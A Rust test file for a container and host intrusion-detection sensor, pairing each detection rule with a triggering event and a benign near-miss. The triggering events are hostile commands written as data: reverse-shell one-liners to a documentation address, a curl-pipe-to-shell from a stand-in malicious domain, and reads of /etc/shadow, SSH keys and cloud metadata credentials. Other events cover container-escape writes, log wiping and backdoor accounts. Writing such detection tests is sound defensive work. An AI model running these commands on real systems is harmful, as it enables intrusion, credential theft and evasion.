//! Every built-in node rule fires on a positive event and stays quiet on a near-miss negative
//! one. Events are built in the kernel's record layout and decoded, so the test goes through
//! the same path as the sensor: bytes → decode → process table → fields → rules.

use std::collections::{BTreeSet, HashMap};

use palisade_sensor::builtin::builtin_engine;
use palisade_sensor::decode::{decode, encode};
use palisade_sensor::{ContainerInfo, Detector, Kind, NodeEvent, ProcessTable};

const PRIV: &str = "ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff00";
const ID: &str = "0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c";

#[derive(Clone)]
struct Ev(NodeEvent);

fn base(kind: Kind, comm: &str) -> Ev {
    Ev(NodeEvent {
        kind,
        pid: 100,
        tid: 100,
        ppid: 50,
        uid: 0,
        gid: 0,
        ts_ns: 1,
        cgroup_id: 1,
        comm: comm.into(),
        pcomm: "containerd-shim".into(),
        cgroups: vec![ID.into(), "docker".into(), String::new()],
        path: None,
        args: vec![],
        cwd: None,
        args_truncated: false,
        a0: 0,
        a1: 0,
        addr: None,
        ..NodeEvent::default()
    })
}

impl Ev {
    fn host(mut self) -> Self {
        self.0.cgroups = vec![
            "session-2.scope".into(),
            "user-0.slice".into(),
            "user.slice".into(),
        ];
        self
    }
    /// A controlling terminal (pts/0).
    fn tty(mut self) -> Self {
        self.0.tty = 34816;
        self
    }
    fn parent(mut self, p: &str) -> Self {
        self.0.pcomm = p.into();
        self
    }
    fn uid(mut self, uid: u32) -> Self {
        self.0.uid = uid;
        self
    }
    fn a(mut self, a0: i64, a1: i64) -> Self {
        self.0.a0 = a0;
        self.0.a1 = a1;
        self
    }
    fn path(mut self, p: &str) -> Self {
        self.0.path = Some(p.into());
        self
    }
    fn gid(mut self, gid: u32) -> Self {
        self.0.gid = gid;
        self
    }
    fn path2(mut self, p: &str) -> Self {
        self.0.path2 = Some(p.into());
        self
    }
    fn fstype(mut self, t: &str) -> Self {
        self.0.fstype = Some(t.into());
        self
    }
    fn upper(mut self) -> Self {
        self.0.exe_upper_layer = true;
        self
    }
    fn memfd(mut self) -> Self {
        self.0.exe_from_memfd = true;
        self
    }
    fn addr(mut self, a: &str, port: i64) -> Self {
        self.0.addr = Some(a.parse().unwrap());
        self.0.a1 = port;
        self
    }
}

fn exec(cmdline: &str) -> Ev {
    let args: Vec<String> = cmdline.split(' ').map(str::to_string).collect();
    let name = args[0].rsplit('/').next().unwrap().to_string();
    let mut e = base(Kind::Exec, &name);
    e.0.path = Some(format!("/usr/bin/{name}"));
    e.0.args = args;
    e
}

const O_WRONLY_CREAT: i64 = 0o101;

fn open(comm: &str, path: &str, flags: i64) -> Ev {
    base(Kind::Open, comm).path(path).a(flags, 0o644)
}

fn connect(comm: &str, addr: &str, port: i64) -> Ev {
    base(Kind::Connect, comm).addr(addr, port)
}

fn unix_connect(comm: &str, path: &str) -> Ev {
    base(Kind::Connect, comm).path(path).a(1, 0)
}

/// accept4 of a connection from 127.0.0.1:`peer` on local port `port`.
fn accept(comm: &str, peer: i64, port: i64) -> Ev {
    let mut e = base(Kind::Accept, comm).addr("127.0.0.1", peer);
    e.0.laddr = Some("127.0.0.1".parse().unwrap());
    e.0.a2 = port;
    e.0.a3 = 288;
    e
}

/// A file event (unlink, chmod...) with its system call number in a1.
fn file(kind: Kind, comm: &str, path: &str, a0: i64, nr: i64) -> Ev {
    base(kind, comm).path(path).a(a0, nr)
}

fn rename(comm: &str, from: &str, to: &str) -> Ev {
    base(Kind::Rename, comm).path(from).path2(to).a(0, 316)
}

fn mount(comm: &str, dev: &str, dir: &str, fstype: &str) -> Ev {
    base(Kind::Mount, comm)
        .path(dir)
        .path2(dev)
        .fstype(fstype)
        .a(0, 165)
}

/// `parent` (pid 50) execs, then `child` (pid 100) execs below it: the table knows the
/// parent's command line (`proc.pcmdline`).
fn child_of(parent: Ev, child: Ev) -> Vec<Ev> {
    let mut p = parent;
    p.0.pid = 50;
    p.0.tid = 50;
    p.0.ppid = 1;
    let mut c = child;
    c.0.pcomm = p.0.comm.clone();
    vec![p, c]
}

/// The built-in rules with the feed lists filled as `palisade db update` fills them (they
/// are empty until then).
fn engine_with_lists() -> palisade_rules::Engine {
    let mut set = palisade_sensor::builtin::builtin_ruleset();
    set.add_list_file(
        "pal_malicious_domains.txt",
        "pal_malicious_domains",
        "0.0.0.0 dl.evil-payload.test\n",
    )
    .unwrap();
    set.add_list_file(
        "pal_malicious_networks.txt",
        "pal_malicious_networks",
        "198.51.100.0/24\n",
    )
    .unwrap();
    let (engine, diags) = set.compile(&palisade_sensor::NodeFields);
    assert!(diags.is_empty(), "{diags:?}");
    engine
}

/// Rule ids raised by the event (after the process's own exec, so the table knows it).
fn hits(events: &[Ev]) -> BTreeSet<String> {
    let engine = engine_with_lists();
    let mut meta = HashMap::new();
    meta.insert(
        ID.to_string(),
        ContainerInfo {
            id: ID.into(),
            name: Some("web".into()),
            image: Some("acme/web:1".into()),
            image_repository: Some("acme/web".into()),
            image_tag: Some("1".into()),
            ..Default::default()
        },
    );
    meta.insert(
        PRIV.to_string(),
        ContainerInfo {
            id: PRIV.into(),
            privileged: Some(true),
            ..Default::default()
        },
    );
    let mut d = Detector::new(engine, ProcessTable::new(1024, false), meta, None);
    let mut out = Vec::new();
    for e in events {
        // Through the kernel layout and back.
        let ev = decode(&encode(&e.0)).unwrap();
        out.clear();
        d.process(&ev, &mut out);
    }
    // Only the last event's alerts count.
    out.iter().filter_map(|a| a.rule_id.clone()).collect()
}

fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
    vec![
        (
            "PAL-NODE-001",
            vec![exec("bash -i").tty(), exec("sh -c id").parent("python3")],
            vec![
                exec("bash -i").tty().host(),
                // The entrypoint `sh -c ...` (its parent is the runtime) and what it runs.
                exec("sh -c /docker-entrypoint.sh"),
                exec("sh /docker-entrypoint.sh").parent("sh"),
                // `docker exec` of a health probe, without a terminal.
                exec("sh -c pg_isready").parent("runc"),
            ],
        ),
        (
            "PAL-NODE-002",
            vec![exec("apt-get install -y nmap")],
            vec![exec("apt-get install -y nmap").host()],
        ),
        (
            "PAL-NODE-003",
            vec![exec("nc -lvp 4444")],
            vec![exec("ncurses5-config --libs")],
        ),
        (
            "PAL-NODE-004",
            vec![exec("xmrig -o pool:3333")],
            vec![exec("xmlint a.xml")],
        ),
        (
            "PAL-NODE-004",
            vec![exec("worker --url stratum+tcp://pool.example:3333")],
            vec![exec("worker --url https://pool.example")],
        ),
        (
            "PAL-NODE-005",
            vec![exec("nsenter -t 1 -m -u -i -n sh")],
            vec![exec("nsenter -t 1 -m sh").host()],
        ),
        (
            "PAL-NODE-006",
            vec![exec("nmap -sS 10.0.0.0/24")],
            vec![exec("nmcli dev")],
        ),
        (
            "PAL-NODE-007",
            vec![exec("kubectl get secrets -A")],
            vec![exec("kubectl get pods").host()],
        ),
        (
            "PAL-NODE-008",
            vec![exec(
                "curl -k https://kubernetes.default.svc/api/v1/secrets",
            )],
            vec![exec("curl -s https://example.com/health")],
        ),
        (
            "PAL-NODE-009",
            vec![exec("sshd -D")],
            vec![exec("ssh-keygen -A")],
        ),
        (
            "PAL-NODE-010",
            vec![exec("sh -c id").parent("nginx")],
            vec![exec("nginx -s reload").parent("nginx")],
        ),
        (
            "PAL-NODE-011",
            vec![exec("cat /etc/shadow"), open("cat", "/etc/shadow", 0)],
            vec![exec("passwd bob"), open("passwd", "/etc/shadow", 0)],
        ),
        (
            "PAL-NODE-012",
            vec![
                exec("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
                open(
                    "cat",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    0,
                ),
            ],
            vec![
                exec("app"),
                open(
                    "app",
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                    0,
                ),
            ],
        ),
        (
            "PAL-NODE-013",
            vec![
                exec("touch /etc/x"),
                open("touch", "/etc/x", O_WRONLY_CREAT),
            ],
            vec![exec("cat /etc/hosts"), open("cat", "/etc/hosts", 0)],
        ),
        (
            "PAL-NODE-013",
            vec![
                exec("tee /etc/ld.so.preload"),
                open("tee", "/etc/ld.so.preload", 1),
            ],
            vec![exec("tee /etc/x"), open("tee", "/etc/x", 1).host()],
        ),
        (
            "PAL-NODE-014",
            vec![
                exec("cp x /usr/bin/ls"),
                open("cp", "/usr/bin/ls", O_WRONLY_CREAT),
            ],
            vec![exec("cp x /tmp/ls"), open("cp", "/usr/bin/ls", 0)],
        ),
        (
            "PAL-NODE-015",
            vec![
                exec("sh -c x"),
                open("sh", "/sys/fs/cgroup/rdma/release_agent", 1),
            ],
            vec![
                exec("sh -c x"),
                open("sh", "/sys/fs/cgroup/rdma/release_agent", 0),
            ],
        ),
        (
            "PAL-NODE-015",
            vec![
                exec("tee /proc/sys/kernel/core_pattern"),
                open("tee", "/proc/sys/kernel/core_pattern", 0o1001),
            ],
            vec![
                exec("cat /proc/sys/kernel/core_pattern"),
                open("cat", "/proc/sys/kernel/core_pattern", 0),
            ],
        ),
        (
            "PAL-NODE-016",
            vec![exec("bash -i"), connect("bash", "127.0.0.1", 4444)],
            vec![exec("curl x"), connect("curl", "127.0.0.1", 4444)],
        ),
        (
            "PAL-NODE-017",
            vec![exec("worker"), connect("worker", "::1", 3333)],
            vec![exec("worker"), connect("worker", "::1", 443)],
        ),
        (
            "PAL-NODE-018",
            vec![exec("ncat 10.0.0.1 80"), connect("ncat", "10.0.0.1", 80)],
            vec![exec("ncat -l 80"), base(Kind::Exit, "ncat")],
        ),
        (
            "PAL-NODE-019",
            vec![base(Kind::Module, "insmod").a(313, 0)],
            vec![base(Kind::Exec, "insmod").path("/sbin/insmod")],
        ),
        (
            "PAL-NODE-020",
            vec![base(Kind::Ptrace, "injector").a(16, 1)],
            vec![base(Kind::Ptrace, "gdb").a(16, 1)],
        ),
        (
            "PAL-NODE-020",
            vec![base(Kind::Ptrace, "injector").a(0x4206, 1)],
            vec![base(Kind::Ptrace, "injector").a(0, 0)],
        ),
        (
            "PAL-NODE-021",
            vec![base(Kind::Setuid, "exploit").uid(1000).a(0, 105)],
            vec![base(Kind::Setuid, "sudo").uid(1000).a(0, 105)],
        ),
        (
            "PAL-NODE-021",
            vec![base(Kind::Setuid, "exploit").uid(33).a(0, 117)],
            vec![base(Kind::Setuid, "exploit").uid(0).a(1000, 105)],
        ),
        (
            "PAL-NODE-022",
            vec![exec("/tmp/kworker -B").path("/tmp/kworker")],
            vec![exec("/usr/bin/tmpreaper 1d /tmp")],
        ),
        (
            "PAL-NODE-023",
            vec![exec("mount /dev/vda1 /mnt")],
            vec![exec("mount")],
        ),
        (
            "PAL-NODE-024",
            vec![exec("docker ps")],
            vec![exec("docker ps").host()],
        ),
        (
            "PAL-NODE-025",
            vec![privileged(exec("bash"))],
            vec![exec("bash").host()],
        ),
        (
            "PAL-NODE-026",
            vec![exec("sh"), open("sh", "/root/.bash_history", 0o1001)],
            vec![exec("sh"), open("sh", "/root/.bash_history", 0o2001)],
        ),
        (
            "PAL-NODE-027",
            vec![
                exec("cat /root/.ssh/id_ed25519"),
                open("cat", "/root/.ssh/id_ed25519", 0),
            ],
            vec![exec("sshd"), open("sshd", "/root/.ssh/id_ed25519", 0)],
        ),
        (
            "PAL-NODE-028",
            vec![exec("/tmp/payload -x").path("/tmp/payload").upper()],
            vec![exec("/tmp/payload -x").path("/tmp/payload")],
        ),
        (
            "PAL-NODE-028",
            vec![exec("ls /").upper()],
            vec![exec("ls /").upper().host()],
        ),
        (
            "PAL-NODE-029",
            vec![exec("x").path("/proc/self/fd/3").memfd().host()],
            vec![exec("x").path("/proc/self/fd/3")],
        ),
        (
            "PAL-NODE-029",
            // argv[0] "runc" proves nothing inside a container...
            vec![fexec("runc init")],
            // ...but on the host it is runc's sealed copy of itself.
            vec![fexec("runc init").host()],
        ),
        (
            "PAL-NODE-030",
            vec![
                exec("chmod +x /tmp/x"),
                file(Kind::Chmod, "chmod", "/tmp/x", 0o755, 90),
            ],
            vec![
                exec("chmod +x /tmp/x"),
                file(Kind::Chmod, "chmod", "/tmp/x", 0o755, 90).host(),
            ],
        ),
        (
            "PAL-NODE-030",
            vec![
                exec("dropper"),
                file(Kind::Chmod, "dropper", "/dev/shm/k", 0o700, 91),
            ],
            vec![
                exec("dpkg -i x.deb"),
                file(Kind::Chmod, "dpkg", "/usr/bin/x", 0o755, 91),
            ],
        ),
        (
            "PAL-NODE-031",
            vec![exec("perl -e x"), file(Kind::Memfd, "perl", "x", 0, 319)],
            vec![
                exec("java -jar a.jar"),
                file(Kind::Memfd, "java", "x", 0, 319),
            ],
        ),
        (
            "PAL-NODE-032",
            vec![mount("mount", "proc", "/mnt", "proc")],
            vec![mount("runc:[2:INIT]", "proc", "/proc", "proc")],
        ),
        (
            "PAL-NODE-032",
            vec![mount("exe", "/proc/self/exe", "/run/x/runc.abc", "").parent("runc")],
            // runc init, re-executed as /proc/self/exe, protecting its own binary
            vec![
                {
                    let mut e = exec("runc init").path("/proc/self/exe").parent("runc");
                    e.0.comm = "exe".into();
                    e
                },
                mount("exe", "/proc/self/exe", "/run/x/runc.abc", "")
                    .parent("runc")
                    .a(4096, 165),
            ],
        ),
        (
            "PAL-NODE-032",
            vec![mount("mount", "/srv", "/mnt", "none").a(4096 | 16384, 165)],
            // unshare -m: mount("none", "/", NULL, MS_REC|MS_PRIVATE)
            vec![mount("unshare", "none", "/", "").a(16384 | (1 << 18), 165)],
        ),
        (
            "PAL-NODE-033",
            vec![mount("mount", "/dev/vda1", "/mnt", "ext4")],
            vec![mount("mount", "none", "/mnt", "tmpfs")],
        ),
        (
            "PAL-NODE-033",
            vec![mount("mount", "cgroup", "/tmp/cg", "cgroup")],
            vec![mount("mount", "cgroup", "/tmp/cg", "cgroup").host()],
        ),
        (
            "PAL-NODE-034",
            vec![base(Kind::Namespace, "nsenter").a(0, 308)],
            vec![base(Kind::Namespace, "runc:[2:INIT]").a(0, 308)],
        ),
        (
            "PAL-NODE-034",
            vec![base(Kind::Namespace, "unshare").a(0x1000_0000, 272)],
            vec![base(Kind::Namespace, "unshare").a(0x1000_0000, 272).host()],
        ),
        (
            "PAL-NODE-035",
            vec![unix_connect("curl", "/var/run/docker.sock")],
            vec![unix_connect("app", "/run/app/app.sock")],
        ),
        (
            "PAL-NODE-036",
            vec![base(Kind::Bpf, "loader").a(5, 321)],
            vec![base(Kind::Bpf, "loader").a(5, 321).host()],
        ),
        (
            "PAL-NODE-037",
            vec![open("sh", "/proc/sys/kernel/modprobe", O_WRONLY_CREAT)],
            vec![open("sh", "/proc/sys/kernel/modprobe", 0)],
        ),
        (
            "PAL-NODE-038",
            vec![open("dd", "/dev/mem", 0).host()],
            vec![open("dd", "/dev/null", 0)],
        ),
        (
            "PAL-NODE-039",
            vec![file(Kind::Unlink, "rm", "/usr/bin/ls", 0, 263)],
            vec![file(Kind::Unlink, "rm", "/tmp/ls", 0, 263)],
        ),
        (
            "PAL-NODE-039",
            vec![rename("mv", "/tmp/ls", "/bin/ls")],
            vec![rename("dpkg", "/bin/ls.dpkg-new", "/bin/ls")],
        ),
        (
            "PAL-NODE-040",
            vec![rename("sed", "/etc/sedX1", "/etc/passwd")],
            vec![rename("sed", "/srv/sedX1", "/srv/conf")],
        ),
        (
            "PAL-NODE-041",
            vec![
                file(Kind::Unlink, "rm", "/var/log/auth.log", 0, 87),
                rename("mv", "/var/log/auth.log", "/tmp/x"),
                rename("mv", "/var/log/app/app.log", "/var/log/app/notes"),
            ],
            vec![
                file(Kind::Unlink, "logrotate", "/var/log/auth.log.4", 0, 87),
                // Rotation by a service's own script: rename to a rotated name, then
                // gzip deletes the uncompressed copy.
                rename("mv", "/var/log/app/app.log", "/var/log/app/app.log.1"),
                file(Kind::Unlink, "gzip", "/var/log/app/app.log.1", 0, 87),
            ],
        ),
        (
            "PAL-NODE-041",
            vec![open("sh", "/var/log/wtmp", 0o1001).host()],
            vec![open("sh", "/var/log/wtmp", 0o2001).host()],
        ),
        (
            "PAL-NODE-042",
            vec![file(Kind::Unlink, "rm", "/root/.bash_history", 0, 263)],
            vec![file(Kind::Unlink, "rm", "/root/.bashrc", 0, 263)],
        ),
        (
            "PAL-NODE-043",
            vec![file(Kind::Chmod, "chmod", "/tmp/sh", 0o4755, 90)],
            vec![file(Kind::Chmod, "chmod", "/tmp/sh", 0o755, 90)],
        ),
        (
            "PAL-NODE-044",
            vec![base(Kind::Capset, "exploit").a(1 << 21, 1 << 21)],
            vec![base(Kind::Capset, "app").a(1, 1)],
        ),
        (
            "PAL-NODE-045",
            vec![base(Kind::Setgid, "exploit").uid(1000).gid(1000).a(0, 106)],
            vec![base(Kind::Setgid, "exploit").uid(1000).gid(0).a(0, 106)],
        ),
        (
            "PAL-NODE-046",
            vec![exec("nc -lp 4444"), accept("nc", 51000, 4444)],
            vec![exec("nginx"), accept("nginx", 51000, 80)],
        ),
        (
            "PAL-NODE-047",
            vec![exec("perl -e listen"), accept("perl", 51000, 4444)],
            vec![exec("perl /srv/app.pl"), accept("perl", 51000, 8080)],
        ),
        (
            "PAL-NODE-048",
            vec![exec("sshd -p 2222").host().parent("bash")],
            vec![exec("sshd -D").host().parent("systemd")],
        ),
        (
            "PAL-NODE-004",
            vec![exec("agent --pool ssl://gulf.moneroocean.stream:20128")],
            vec![exec("agent --pool ssl://api.example.com:443")],
        ),
        (
            "PAL-NODE-010",
            child_of(exec("java -jar /app/orders-spring-boot.jar"), exec("sh -c id")),
            child_of(exec("java -cp /opt/kafka/libs/* kafka.Kafka"), exec("sh -c id")),
        ),
        (
            "PAL-NODE-010",
            vec![exec("sh -c id").parent("php-fpm: pool w"), exec("bash -c whoami").parent("php-fpm8.3")],
            vec![exec("php -v").parent("php-fpm: pool w")],
        ),
        (
            "PAL-NODE-010",
            child_of(exec("node /srv/server.js"), exec("sh -c cat /etc/passwd")),
            child_of(exec("node /usr/lib/node_modules/npm/bin/npm-cli.js ci"), exec("sh -c node-gyp rebuild")),
        ),
        (
            "PAL-NODE-050",
            vec![exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"), connect("curl", "169.254.169.254", 80)],
            vec![exec("curl -s http://10.0.0.1/"), connect("curl", "10.0.0.1", 80)],
        ),
        (
            "PAL-NODE-050",
            vec![connect("python3", "fd00:ec2::254", 80)],
            vec![connect("python3", "169.254.169.254", 80).host()],
        ),
        (
            "PAL-NODE-051",
            vec![connect("wget", "198.51.100.23", 443)],
            vec![connect("wget", "203.0.113.23", 443)],
        ),
        (
            "PAL-NODE-052",
            vec![open("cat", "/var/lib/kubelet/pki/kubelet-client-current.pem", 0).host()],
            vec![open("kubelet", "/var/lib/kubelet/pki/kubelet-client-current.pem", 0).host()],
        ),
        (
            "PAL-NODE-052",
            vec![open("python3", "/etc/kubernetes/admin.conf", 0)],
            vec![open("python3", "/etc/kubernetes/manifests/etcd.yaml", 0)],
        ),
        (
            "PAL-NODE-053",
            vec![exec("systemctl stop apt-daily-upgrade.timer").host()],
            vec![exec("systemctl stop nginx").host()],
        ),
        (
            "PAL-NODE-053",
            vec![exec("systemctl mask --now auditd.service").host(), exec("pkill -9 falco")],
            vec![exec("systemctl status auditd.service").host()],
        ),
        (
            "PAL-NODE-054",
            vec![exec("touch -r /bin/ls /usr/bin/kworkerd")],
            vec![exec("touch /tmp/ready"), exec("touch -d 2020-01-01 /tmp/stamp")],
        ),
        (
            "PAL-NODE-055",
            ["whoami", "id", "uname -a", "hostname", "ps aux", "ip addr"].into_iter().map(exec).collect(),
            ["whoami", "id", "uname -a", "hostname", "ps aux"].into_iter().map(exec).collect(),
        ),
        (
            "PAL-NODE-056",
            vec![exec("echo PALISADE-TEST-ALERT")],
            vec![exec("echo PALISADE"), exec("sh -c echo PALISADE-TEST-ALERT")],
        ),
        (
            "PAL-NODE-057",
            vec![exec("sh -c curl -fsSL http://dl.evil-payload.test/x.sh|sh")],
            vec![exec("sh -c curl -fsSL https://deb.debian.org/x.sh|sh")],
        ),
        (
            "PAL-NODE-058",
            vec![
                exec("python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"),
                connect("python3", "203.0.113.9", 4444),
            ],
            vec![
                exec("python3 -c import urllib.request;urllib.request.urlopen(\"http://localhost:8080/health\")"),
                connect("python3", "127.0.0.1", 8080),
            ],
        ),
        (
            "PAL-NODE-058",
            vec![
                exec("php -r $sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
                connect("php", "203.0.113.9", 4444),
            ],
            vec![exec("php /srv/worker.php /bin/sh"), connect("php", "203.0.113.9", 4444)],
        ),
        (
            "PAL-NODE-059",
            child_of(exec("python3 -c import socket,subprocess;s=socket.socket();s.connect((\"203.0.113.9\",4444));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno())"), exec("sh -i")),
            child_of(exec("python3 -c import os;os.system(\"ls\")"), exec("sh -c ls")),
        ),
        (
            "PAL-NODE-060",
            vec![open("sh", "/home/deploy/.ssh/authorized_keys", O_WRONLY_CREAT | 0o2000)],
            vec![open("sshd", "/root/.ssh/authorized_keys", 0), open("sh", "/home/deploy/.ssh/known_hosts", 0)],
        ),
        (
            "PAL-NODE-061",
            vec![exec("nohup /tmp/.x/kworker -B")],
            vec![exec("nohup /usr/local/bin/worker --queue default")],
        ),
        (
            "PAL-NODE-062",
            vec![exec("useradd -m support"), exec("useradd -o -u 0 -M sysd").host()],
            vec![exec("useradd -m -s /bin/bash alice").host()],
        ),
        (
            "PAL-NODE-062",
            vec![exec("usermod -aG sudo bob").host()],
            vec![exec("usermod -aG docker bob").host()],
        ),
        (
            "PAL-NODE-063",
            vec![exec("openssl passwd -6 -salt xyz S3cret"), exec("chpasswd -e").host()],
            vec![exec("openssl rand -hex 16"), exec("chpasswd").host()],
        ),
        (
            "PAL-NODE-064",
            vec![exec("/tmp/splunkd -server http://10.9.9.9:8888 -group red -v")],
            vec![exec("splunkd start --accept-license")],
        ),
        (
            "PAL-NODE-065",
            vec![exec("/tmp/kdevtmpfsi"), exec("hping3 --flood -S -p 80 10.0.0.1")],
            vec![exec("hping3 -c 1 -S -p 80 10.0.0.1")],
        ),
        (
            "PAL-NODE-066",
            vec![exec("curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login")],
            vec![exec("curl -sk https://web.shop.svc/healthz")],
        ),
        (
            "PAL-NODE-049",
            vec![exec("curl -o /tmp/s http://x/s").parent("nginx")],
            vec![exec("curl -o /tmp/s http://x/s").parent("bash")],
        ),
    ]
}

/// An exec of a memfd through /proc/self/fd/3 (the process is named after the fd).
fn fexec(cmdline: &str) -> Ev {
    let mut e = exec(cmdline).path("/proc/self/fd/3").memfd();
    e.0.comm = "3".into();
    e
}

/// Marks an event as coming from the privileged container (see `hits`).
fn privileged(mut e: Ev) -> Ev {
    e.0.cgroups[0] = PRIV.into();
    e
}

#[test]
fn every_rule_has_a_positive_and_a_negative_case() {
    let (engine, diags) = builtin_engine();
    assert!(diags.is_empty(), "{diags:?}");
    assert_eq!(engine.rules().len(), engine_with_lists().rules().len());
    let mut covered = BTreeSet::new();
    for (id, pos, neg) in cases() {
        let p = hits(&pos);
        assert!(p.contains(id), "{id}: positive case raised {p:?}");
        let n = hits(&neg);
        assert!(!n.contains(id), "{id}: negative case raised {n:?}");
        covered.insert(id.to_string());
    }
    let all: BTreeSet<String> = engine
        .rules()
        .iter()
        .filter_map(|r| r.meta.id.clone())
        .collect();
    assert_eq!(covered, all, "rules without cases");
}

#[test]
fn alert_carries_process_and_container_context() {
    let (engine, _) = builtin_engine();
    let mut meta = HashMap::new();
    meta.insert(
        ID.to_string(),
        ContainerInfo {
            id: ID.into(),
            name: Some("web".into()),
            image: Some("acme/web:1".into()),
            image_repository: Some("acme/web".into()),
            pod_name: Some("web-1".into()),
            pod_namespace: Some("shop".into()),
            ..Default::default()
        },
    );
    let mut d = Detector::new(
        engine,
        ProcessTable::new(16, false),
        meta,
        Some("node-a".into()),
    );
    let mut out = Vec::new();
    let mut sh = exec("sh -c cat");
    sh.0.pid = 99;
    sh.0.ppid = 50;
    d.process(&sh.0, &mut out);
    let mut cat = exec("cat /etc/shadow").parent("sh");
    cat.0.ppid = 99;
    d.process(&cat.0, &mut out);
    out.clear();
    let mut o = open("cat", "/etc/shadow", 0).parent("sh");
    o.0.ppid = 99;
    d.process(&o.0, &mut out);
    let a = out
        .iter()
        .find(|a| a.rule_id.as_deref() == Some("PAL-NODE-011"))
        .unwrap();
    let j = serde_json::to_value(a).unwrap();
    assert_eq!(j["container"]["id"], ID);
    assert_eq!(j["container"]["name"], "web");
    assert_eq!(j["container"]["pod_namespace"], "shop");
    assert_eq!(j["node"], "node-a");
    assert_eq!(j["process"]["exepath"], "/usr/bin/cat");
    assert_eq!(j["process"]["args"][1], "/etc/shadow");
    assert_eq!(j["process"]["ancestors"][0], "sh");
    assert_eq!(j["process"]["ancestors"][1], "containerd-shim");
    assert_eq!(j["mitre"]["techniques"][0], "T1552.001");
    assert_eq!(
        a.message,
        "cat read /etc/shadow (O_RDONLY) in web (acme/web): cat /etc/shadow"
    );
}
